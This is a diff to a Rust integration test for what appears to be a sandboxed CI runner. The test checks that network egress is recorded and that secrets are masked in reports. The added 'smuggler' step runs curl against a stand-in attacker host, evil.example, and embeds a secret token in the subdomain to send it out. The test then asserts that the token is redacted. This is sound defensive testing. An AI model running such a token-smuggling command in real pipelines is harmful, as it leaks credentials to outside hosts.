@@ -207,6 +207,10 @@ async fn packages_come_through_the_exit_and_nothing_else(launcher: Launcher) {
             "python3 - <<'E'\nimport urllib.request\ntry:\n    print('got', urllib.request.urlopen('http://{address}/simple/parcel/', timeout=5).status)\nexcept Exception as error:\n    print('no:', error)\nE\n"
         )
     };
+    let mut smuggler = granted("curl -s -m 5 http://$T.evil.example/ -o /dev/null; true");
+    smuggler.env = floor::env(&[("T", "${{ secrets.TOKEN }}")]);
+    smuggler.grant.secrets = vec!["TOKEN".into()];
+    floor.controller.record().secrets.insert(caisson_model::id::StepIndex(6), vec![("TOKEN".into(), "HushHush77".into())]);
     let spec = job(vec![
         uses("actions/setup-python", &[]),
         granted("pip install parcel && python -c 'import parcel; print(\"imported\")'"),
@@ -214,6 +218,7 @@ async fn packages_come_through_the_exit_and_nothing_else(launcher: Launcher) {
         granted(&fetch(other)),
         when("always()", run(&fetch(address))),
         when("always()", run("env | grep -i _proxy || echo none")),
+        smuggler,
     ]);
     let (hold, completion) = floor.run(spec).await;
     let log = |step| floor.controller.log(hold, step);
@@ -235,6 +240,8 @@ async fn packages_come_through_the_exit_and_nothing_else(launcher: Launcher) {
         results[&3].egress
     );
     assert!(results[&4].egress.is_empty());
+    assert_eq!(results[&6].egress.iter().map(|entry| entry.host.as_str()).collect::<Vec<_>>(), ["***.evil.example"]);
+    assert!(!format!("{:?}", floor.controller.record().reports).to_lowercase().contains("hushhush77"));
     floor.close().await;
 }
 
